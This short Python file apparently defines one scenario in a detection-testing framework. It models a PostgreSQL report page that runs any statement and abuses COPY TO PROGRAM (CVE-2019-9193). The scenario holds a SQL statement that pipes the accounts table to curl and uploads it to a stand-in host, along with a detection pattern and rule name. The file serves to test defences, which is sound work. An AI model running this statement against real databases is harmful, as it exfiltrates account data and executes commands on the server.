"""F3: COPY hands a table to a program on the database's machine."""

from backwatch.attack.clients.psycopg import Psycopg
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import ReportPage


class CopyToProgram(ReportPage):
    """A forgotten page for reports executes any statement."""

    code = "F3"
    attack = "has the database hand its accounts to a program of the attacker's"
    reference = "https://attack.mitre.org/techniques/T1059/ (CVE-2019-9193)"
    rule = "statement-runs-program"
    captures = b"TO PROGRAM"
    statement = "COPY accounts TO PROGRAM 'curl -T - https://collect.example/'"
    runs = (Run(Psycopg),)
